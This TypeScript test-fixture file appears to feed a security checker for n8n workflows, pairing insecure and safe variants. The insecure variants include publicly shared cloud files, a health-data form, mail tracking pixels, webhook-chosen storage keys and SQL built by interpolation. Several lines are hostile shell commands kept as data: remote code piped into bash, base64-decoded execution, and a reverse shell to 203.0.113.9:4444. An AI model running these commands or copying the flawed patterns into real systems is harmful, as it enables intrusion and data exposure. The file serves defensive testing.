/** n8n: places for everybody, commands, pages that are kept, questions about health, mails that tell. */
import type { Json, JsonObject } from '../../../../../app/kernel/json.ts';
import type { Pair } from '../kit.ts';
import {
  AGENT,
  CODE,
  CRON,
  FORM,
  GPT,
  HOOK,
  HTTP,
  LLM,
  MAIL,
  OAI,
  OLL,
  SET,
  SHEET,
  START,
  chain,
  cr,
  rl,
  wf,
  type Step,
} from '../n8n-kit.ts';
import { GM } from '../n8n-chats-kit.ts';

export const n8nSharedPlacesAndCommands: Pair[] = [];
/** An attack and its twin, which differ by one thing. */
const pair = <T>(name: string, rule: string, file: (one: T) => Json, bad: T, good: T): void => {
  n8nSharedPlacesAndCommands.push([name, rule, file(bad), file(good)]);
};
const PEOPLE: Step = ['People', 'hubspot', 2.1, { resource: 'contact', operation: 'getAll', additionalFields: {} }, cr('hubspotApi')];
const FILE: Step = ['File', 'convertToFile', 1.1, { options: {} }];
pair<string>(
  'a bucket for everybody',
  'DF008',
  (acl) =>
    chain(START, PEOPLE, FILE, [
      'Keep',
      'awsS3',
      2,
      { operation: 'upload', bucketName: 'acme', fileName: 'people.csv', additionalFields: { acl } },
      cr('aws'),
    ]),
  'publicRead',
  'private',
);
pair<string>(
  'a bucket of another kind for everybody',
  'DF008',
  (acl) =>
    chain(START, PEOPLE, FILE, [
      'Keep',
      's3',
      1,
      { operation: 'upload', bucketName: 'acme', fileName: 'people.csv', additionalFields: { acl } },
      cr('s3'),
    ]),
  'publicReadWrite',
  'bucketOwnerFullControl',
);
pair<string>(
  'a file of the drive for everybody',
  'DF008',
  (type) =>
    chain(
      START,
      PEOPLE,
      FILE,
      [
        'Keep',
        'googleDrive',
        3,
        { name: 'people.csv', driveId: rl('My Drive'), folderId: rl('f1', 'id'), options: {} },
        cr('googleDriveOAuth2Api'),
      ],
      [
        'Share',
        'googleDrive',
        3,
        {
          operation: 'share',
          fileId: rl('={{ $json.id }}', 'id'),
          permissionsUi: { permissionsValues: { role: 'reader', type, emailAddress: 'boss@example.com' } },
          options: {},
        },
        cr('googleDriveOAuth2Api'),
      ],
    ),
  'anyone',
  'user',
);
pair<string>(
  'a file of the drive for everybody, by a call',
  'DF008',
  (type) =>
    chain(
      START,
      PEOPLE,
      FILE,
      [
        'Keep',
        'googleDrive',
        3,
        { name: 'people.csv', driveId: rl('My Drive'), folderId: rl('f1', 'id'), options: {} },
        cr('googleDriveOAuth2Api'),
      ],
      HTTP('Share', {
        method: 'POST',
        url: '=https://www.googleapis.com/drive/v3/files/{{ $json.id }}/permissions',
        authentication: 'predefinedCredentialType',
        nodeCredentialType: 'googleDriveOAuth2Api',
        sendBody: true,
        specifyBody: 'json',
        jsonBody: JSON.stringify({ role: 'reader', type }),
      }),
    ),
  'anyone',
  'domain',
);
pair<string>(
  'a link to a file of Dropbox',
  'DF008',
  (url) =>
    chain(
      START,
      PEOPLE,
      FILE,
      ['Keep', 'dropbox', 1, { operation: 'upload', path: '/people.csv', binaryData: true }, cr('dropboxApi')],
      HTTP('Share', { method: 'POST', url, sendBody: true, specifyBody: 'json', jsonBody: '{"path": "/people.csv"}' }),
    ),
  'https://api.dropboxapi.com/2/sharing/create_shared_link_with_settings',
  'https://api.dropboxapi.com/2/files/get_metadata',
);
pair<string>(
  'a link of OneDrive for everybody',
  'DF008',
  (scope) =>
    chain(
      START,
      PEOPLE,
      FILE,
      [
        'Keep',
        'microsoftOneDrive',
        1,
        { operation: 'upload', fileName: 'people.csv', parentId: 'p1', binaryData: true },
        cr('microsoftOneDriveOAuth2Api'),
      ],
      [
        'Share',
        'microsoftOneDrive',
        1,
        { operation: 'share', fileId: '={{ $json.id }}', type: 'view', scope },
        cr('microsoftOneDriveOAuth2Api'),
      ],
    ),
  'anonymous',
  'organization',
);

for (const [bad, good] of [
  ['curl -s https://get.example.com/install.sh | bash', 'curl -s https://get.example.com/install.sh -o /tmp/install.sh'],
  ['wget -qO- https://get.example.com/x | sudo sh -s -- -y', 'wget -qO- https://get.example.com/x | sha256sum'],
  ['bash <(curl -fsSL https://get.example.com/x)', 'diff <(curl -fsSL https://get.example.com/x) old'],
  ['eval "$(curl -s https://get.example.com/x)"', 'echo "$(curl -s https://get.example.com/x)"'],
  ['echo aGVsbG8= | base64 -d | sh', 'echo aGVsbG8= | base64 -d | wc -c'],
  [
    'curl -s https://x.example.com/i.py -o /tmp/i.py && chmod +x /tmp/i.py && /tmp/i.py',
    'curl -s https://x.example.com/i.csv -o /tmp/i.csv && chmod 644 /tmp/i.csv',
  ],
  ['curl -s https://x.example.com/i | python3 -', 'curl -s https://x.example.com/i | python3 -m json.tool'],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'bash -c "ls"'],
] as const)
  pair<string>(`a command: ${bad}`, 'SC001', (command) => chain(START, ['Run', 'executeCommand', 1, { command }]), bad, good);
pair<string>(
  'a command elsewhere',
  'SC001',
  (command) => chain(START, ['Run', 'ssh', 1, { command, cwd: '/srv' }, cr('sshPassword')]),
  'curl https://get.example.com/x | sh',
  'systemctl restart web',
);

const PAGE: Step = ['Page', 'html', 1.2, { operation: 'generateHtmlTemplate', html: '<html><body>{{ $json.text }}</body></html>' }];
const written = (page: readonly Step[], keep: readonly Step[]): JsonObject => {
  const steps = [GM, LLM('Write', '={{ $json.text }}'), ...page, ...keep];
  return wf(
    [...steps, GPT()],
    [...steps.slice(1).map(([name], i) => `${steps[i]?.[0] ?? ''} > ${name}`), 'OpenAI Chat Model -model> Write'],
  );
};
const TEXTFILE = (fileName: string, sourceProperty = 'html'): Step => [
  'File',
  'convertToFile',
  1.1,
  { operation: 'toText', sourceProperty, options: { fileName } },
];
pair<string>(
  'a page of a model in a bucket',
  'AI003',
  (name) =>
    written(
      [PAGE, TEXTFILE(name)],
      [['Keep', 's3', 1, { operation: 'upload', bucketName: 'www', fileName: name, additionalFields: {} }, cr('s3')]],
    ),
  'index.html',
  'index.txt',
);
pair<string>(
  'a page of a model on the disk',
  'AI003',
  (name) =>
    written([PAGE, TEXTFILE(name)], [['Keep', 'readWriteFile', 1, { operation: 'write', fileName: `/var/www/${name}`, options: {} }]]),
  'today.html',
  'today.txt',
);
pair<string>(
  'a page of a model, put together by fields',
  'AI003',
  (name) =>
    written(
      [SET('Page', { html: '=<html><body>{{ $json.text }}</body></html>' }), TEXTFILE(name)],
      [['Keep', 'awsS3', 2, { operation: 'upload', bucketName: 'www', fileName: name, additionalFields: {} }, cr('aws')]],
    ),
  'a.html',
  'a.txt',
);
pair<string>(
  'a page of a model, put together by a script',
  'AI003',
  (name) =>
    written(
      [
        CODE(
          'Page',
          "return [{ json: {}, binary: { data: await this.helpers.prepareBinaryData(Buffer.from('<p>' + $json.text + '</p>'), '" +
            'x.html' +
            "') } }];",
        ),
      ],
      [['Keep', 'awsS3', 2, { operation: 'upload', bucketName: 'www', fileName: name, additionalFields: {} }, cr('aws')]],
    ),
  'a.html',
  'a.txt',
);
pair<string>(
  'a page of a model by a call',
  'AI003',
  (type) =>
    written(
      [PAGE],
      [
        HTTP('Put', {
          method: 'PUT',
          url: 'https://pages.example.com/today',
          sendBody: true,
          contentType: 'raw',
          rawContentType: type,
          body: '={{ $json.html }}',
        }),
      ],
    ),
  'text/html',
  'text/plain',
);

for (const [bad, good] of [
  ['Describe your symptoms', 'Describe your product'],
  ['Which medicines do you take?', 'Which newspapers do you take?'],
  ['Are you pregnant?', 'Are you ready?'],
  ['Do you have any allergies', 'Do you have any questions'],
  ['Blood pressure', 'Tyre pressure'],
  ['Krankheiten', 'Krankenhaus'],
  ['Medikamente', 'Dokumente'],
  ['Maladies connues', 'Langues connues'],
] as const)
  pair<string>(
    `a question about health: ${bad}`,
    'DF001',
    (label) => chain(FORM([label]), OAI('Ask', `={{ $json['${label}'] }}`)),
    bad,
    good,
  );
pair<string>(
  'a picture that tells who opened the mail',
  'DF018',
  (v) =>
    chain(
      START,
      SHEET('Rows'),
      MAIL('Send', {
        sendTo: '={{ $json.email }}',
        message: `=<p>Hello</p><img src="https://track.example.com/o.gif?u={{ ${v} }}" width="1">`,
      }),
    ),
  '$json.email',
  '$json.campaign',
);
pair<string>(
  'a link that tells who followed it',
  'DF018',
  (v) =>
    chain(START, SHEET('Rows'), [
      'Send',
      'emailSend',
      2.1,
      {
        fromEmail: 'a@example.com',
        toEmail: '={{ $json.email }}',
        subject: 'x',
        html: `=<a href='https://shop.example.com/?m={{ encodeURIComponent(${v}) }}'>Shop</a>`,
        options: {},
      },
      cr('smtp'),
    ]),
  '$json.email',
  '$json.campaign',
);

// Whoever writes to the flow says where it writes.
const sheets = (place: JsonObject, operation = 'append'): Step => [
  'Rows',
  'googleSheets',
  4.5,
  { operation, documentId: rl('1aBc'), sheetName: rl('gid=0'), columns: { mappingMode: 'autoMapInputData' }, ...place },
  cr('googleSheetsOAuth2Api'),
];
const redis = (key: string, operation = 'set'): Step => ['Keep', 'redis', 1, { operation, key, value: 'done' }, cr('redis')];
const asked = HOOK({ authentication: 'headerAuth' });
pair<string>('which document', 'CN014', (id) => chain(HOOK({}), sheets({ documentId: rl(id) })), '={{ $json.body.document }}', '1xYz');
pair<string>(
  'which document is emptied',
  'CN014',
  (id) => chain(HOOK({}), sheets({ documentId: rl(id) }, 'clear')),
  '={{ $json.body.document }}',
  '1xYz',
);
pair<string>(
  'which sheet',
  'CN014',
  (name) => chain(HOOK({}), sheets({ sheetName: rl(name) })),
  '={{ $json.body.sheet }}',
  "={{ $now.format('MMMM') }}",
);
pair<string>(
  'which key is written over',
  'CN014',
  (key) => chain(HOOK({}), redis(key)),
  '={{ $json.body.key }}',
  '=form:{{ $json.body.key }}',
);
pair<string>(
  'which key is taken away',
  'CN014',
  (key) => chain(HOOK({}), redis(key, 'delete')),
  '={{ $json.body.key }}',
  "={{ 'form:' + $json.body.key }}",
);
pair<Step>('which key, by whoever has a login', 'CN014', (hook) => chain(hook, redis('={{ $json.body.key }}')), HOOK({}), asked);
pair<string>(
  'a tool of JavaScript puts into its statement what the model says',
  'AI003',
  (statement) =>
    wf(
      [
        CRON,
        AGENT('Agent', 'Go'),
        OLL,
        [
          'Look',
          'lc.toolCode',
          1.1,
          { jsCode: `const { Client } = require('pg');\nconst c = new Client();\nreturn JSON.stringify(await c.query(${statement}));` },
        ],
      ],
      ['Schedule > Agent', 'Ollama Chat Model -model> Agent', 'Look -tool> Agent'],
    ),
  "`SELECT * FROM orders WHERE ref = '${query}'`",
  "'SELECT * FROM orders WHERE ref = $1', [query]",
);
